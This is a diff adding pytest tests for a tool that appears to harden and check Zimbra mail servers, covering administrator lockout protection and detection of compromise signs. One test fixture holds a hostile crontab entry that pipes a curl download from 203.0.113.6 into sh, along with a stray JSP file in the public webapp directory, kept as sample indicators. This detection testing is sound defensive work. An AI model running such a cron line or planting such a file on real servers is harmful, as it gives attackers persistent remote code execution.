@@ -1,0 +1,94 @@
+"""The last way in stays open, and signs of compromise are looked for anew."""
+
+import json
+from collections.abc import Iterator
+from importlib.resources import files
+from itertools import chain
+
+import pytest
+
+from tests.engine.repair import plan
+from tests.examples import facts_of
+from zmward.change import SetAttr
+from zmward.control import Example, Status
+from zmward.controls.registry import controls
+from zmward.engine.signs import keep_an_administrator, suspicions
+from zmward.errors import Refused
+from zmward.finding import judge
+from zmward.guards import SIGNS
+from zmward.profile import Profile
+from zmward.sources.accounts import Admin
+
+CONTROL = controls()["no-fallback-to-local-passwords"]
+DOMAINS = {"example.com": {"zimbraAuthMech": "ad", "zimbraAuthFallbackToLocal": "TRUE"}}
+
+
+def shut(**given: object) -> None:
+    example = Example(Status.FAIL, {"domains": DOMAINS, **given})
+    finding = judge(CONTROL, facts_of(example))
+    keep_an_administrator(("domain:example.com",), (finding,))
+
+
+def test_the_last_administrator_with_a_local_password_keeps_it() -> None:
+    with pytest.raises(Refused, match="no other global administrator"):
+        shut(admins=(Admin("root@example.com", "active"),))
+    local = {**DOMAINS, "local.example": {}}
+    shut(domains=local, admins=(Admin("root@local.example", "active"),))
+    with pytest.raises(Refused, match="no other global administrator"):
+        shut(domains=local, admins=(Admin("root@local.example", "locked"),))
+
+
+def test_where_it_is_not_known_nobody_is_shut_out() -> None:
+    with pytest.raises(Refused, match="not known"):
+        shut(missing=("ldap-accounts",))
+    with pytest.raises(Refused, match="not known"):
+        keep_an_administrator(("domain:example.com",), ())
+
+
+class Recording:
+    """A host that answers what it is asked from the sample server's evidence."""
+
+    name, streams = "the sample", 1
+
+    def __init__(self, **instead: str) -> None:
+        content = (files("zmward.demo") / "evidence.json").read_bytes()
+        rows = json.loads(content)["answers"].values()
+        texts = {k: v["text"] for own in rows for k, v in own.items() if "text" in v}
+        self.texts = {**texts, **instead}
+        self.script = ""
+
+    def lines(self, script: str) -> Iterator[bytes]:
+        self.script = script
+        asked = [name for name in self.texts if f"ask {name} " in script]
+        frames = (
+            (f"% {name}", *(f"|{row}" for row in self.texts[name].splitlines()), "= 0")
+            for name in asked
+        )
+        for line in ("% zmward 1 0", *chain.from_iterable(frames), "% end"):
+            yield f"{line}\n".encode()
+
+
+def test_only_what_shows_signs_is_asked_again() -> None:
+    clean = Recording(**{"crontab-zimbra": "", "web-programs": "shipped /x\n"})
+    dirty = Recording(
+        **{
+            "crontab-zimbra": "> /var/spool/cron/crontabs/zimbra\n"
+            " */5 * * * * curl http://203.0.113.6/a | sh\n",
+            "web-programs": "loose /opt/zimbra/jetty_base/webapps/zimbra/public/a.jsp\n",
+        }
+    )
+    for door, expected in ((clean, ()), (dirty, SIGNS[1:])):
+        found = suspicions(door, plan(), controls(), Profile(), "0")  # type: ignore[arg-type]  # a part of a door
+        assert found == expected
+        assert door.script.count("\n    ask ") <= 8
+
+
+def test_a_plan_that_shuts_a_domain_asks_who_is_left() -> None:
+    door = Recording()
+    change = SetAttr(
+        "domain:example.com", "zimbraAuthFallbackToLocal", None, ("FALSE",)
+    )
+    # The recording holds the accounts as they were reduced, which no host answers.
+    with pytest.raises(Refused, match="not known"):
+        suspicions(door, plan((change,)), controls(), Profile(), "0")  # type: ignore[arg-type]  # a part of a door
+    assert "ask ldap-accounts " in door.script
